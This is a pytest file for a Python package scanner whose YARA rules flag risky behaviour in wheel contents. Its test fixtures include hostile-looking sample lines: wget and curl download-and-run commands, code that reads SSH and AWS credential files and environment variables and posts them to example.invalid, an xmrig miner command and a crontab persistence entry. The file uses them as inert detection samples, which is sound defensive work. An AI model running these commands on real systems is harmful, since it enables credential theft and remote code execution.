"""The project's YARA rules: each behaviour on a harmless positive, and honest code left alone."""

from __future__ import annotations

import io
import struct
import wave

import pytest
from mirror.content import ScanConfig, default_rules, load_rules, scan_member
from mirror.content.rules import RULES_DIR

RULES = default_rules()
CFG = ScanConfig()


def kinds(path: str, data: bytes, *, pure: bool = True, kind: str = "wheel") -> set[str]:
    return {b.behaviour for b in scan_member(path, data, kind=kind, pure=pure, rules=RULES, config=CFG)}


POSITIVES = {
    "silent-process-spawn": b"import subprocess\nsubprocess.Popen(['./x'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
    "download-execute": b"import os\nos.system('wget -q http://example.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n",
    "download-pipe-shell": b"import os\nos.system('curl -s http://example.invalid/i.sh | sh')\n",
    "exec-decoded": b"import base64\nexec(base64.b64decode('cHJpbnQoImhhcm1sZXNzIik='))\n",
    "credential-exfiltration": (
        b"import os, requests\nkeys = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        b"aws = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://example.invalid', data=keys + aws)\n"
    ),
    "env-exfiltration": b"import os, json, requests\nrequests.post('http://example.invalid', data=json.dumps(dict(os.environ)))\n",
    "crypto-miner": b"CMD = './xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1'\n",
    "write-chmod-exec": b"import os, subprocess, tempfile\np = tempfile.mktemp()\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
    "persistence": b"import os\nos.system('(crontab -l; echo \"@reboot python3 x.py\") | crontab -')\n",
    "obfuscated-python": b"X = '" + b"QUFB" * 1000 + b"'\n",
    "shell-command": b"import os\nos.system('echo hi')\n",
}


@pytest.mark.parametrize("behaviour", sorted(POSITIVES))
def test_each_rule_fires_on_its_harmless_example(behaviour):
    assert behaviour in kinds("pkg/mod.py", POSITIVES[behaviour])


def test_obfuscated_javascript():
    js = b"var _0x1a2b=['log','push','shift'];" + b"".join(b"_0x%04x(_0x1a2b);" % i for i in range(300))
    assert "obfuscated-js" in kinds("pkg/static/app.js", js)


HONEST = [
    b"import subprocess\ndef version():\n    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n",
    b"import requests\ndef fetch(url):\n    return requests.get(url, timeout=10).json()\n",
    b"import base64\ndef encode(b):\n    return base64.b64encode(b).decode()\n",
    b"import os\nCONFIG = os.path.expanduser('~/.config/demo/settings.toml')\n",
    b"# Install with: pip install demo\nVALUE = 1\n",
]


@pytest.mark.parametrize("data", HONEST)
def test_honest_code_has_no_risky_behaviour(data):
    risky = {b for b in scan_member("pkg/mod.py", data, kind="wheel", pure=True, rules=RULES, config=CFG)
             if b.severity not in ("info", "low")}
    assert risky == set()


def test_install_one_liners_in_docs_are_not_download_execute():
    assert not kinds("demo-1.0.dist-info/METADATA", b"Install: curl -LsSf https://example.invalid/i.sh | sh\n") & {
        "download-execute", "download-pipe-shell"}


def test_binaries_in_a_pure_wheel_do_not_belong():
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    assert {"native-elf", "foreign-binary"} <= kinds("pkg/bin/helper", elf, pure=True)
    assert "foreign-binary" not in kinds("pkg/_ext.cpython-311-x86_64-linux-gnu.so", elf, pure=False)
    assert "bundled-executable" in kinds("pkg/bin/helper", elf, pure=False)


def test_hidden_folder_with_code():
    assert "hidden-path" in kinds("pkg/.cache/run.py", b"A = 1\n")


def _wav(extra: bytes) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(struct.pack("<100h", *range(100)))
    return out.getvalue() + extra


def test_media_with_appended_data():
    assert "media-appended-data" not in kinds("pkg/sound.wav", _wav(b""))
    assert "media-appended-data" in kinds("pkg/sound.wav", _wav(b"print('harmless')\n" * 400))


def test_large_high_entropy_blob_of_no_known_format():
    import random

    blob = random.Random(1).randbytes(1 << 20)
    assert "high-entropy-blob" in kinds("pkg/data/blob.dat", blob)
    assert "high-entropy-blob" not in kinds("pkg/data/blob.dat", blob[: 1 << 19])


def test_ruleset_version_names_rules_and_engine(tmp_path):
    version = RULES.version
    assert version.startswith("content-") and "yara-x-" in version
    assert load_rules().version == version
    for path in RULES_DIR.glob("*.yar"):
        (tmp_path / path.name).write_text(path.read_text())
    (tmp_path / "extra.yar").write_text('rule extra { strings: $a = "zzz-marker" condition: $a }')
    assert load_rules(tmp_path).version != version


def test_behaviours_carry_rule_and_safe_excerpt():
    [b] = [x for x in scan_member("m.py", b"import base64\nexec(base64.b64decode('\x1b[31mAAA'))\n",
                                  kind="wheel", pure=True, rules=RULES, config=CFG) if x.behaviour == "exec-decoded"]
    assert b.rule == "decode_exec.exec_decoded_payload"
    assert "\x1b" not in b.excerpt and "\\x1b" in b.excerpt


def test_big_javascript_in_a_pure_wheel_is_noted():
    js = b"function hello() { console.log('harmless'); }\n" * 30000
    assert "foreign-javascript" in kinds("pkg/static/bundle.js", js)
    assert "foreign-javascript" not in kinds("pkg/static/bundle.js", js, pure=False)


def test_oversized_pickle_is_reported_as_not_fully_checked():
    import pickle

    config = ScanConfig(max_pickle_bytes=1000)
    data = pickle.dumps(list(range(5000)), protocol=4)
    found = {b.behaviour for b in scan_member("pkg/w.pkl", data, kind="wheel", pure=True, rules=RULES, config=config)}
    assert "pickle-unchecked" in found
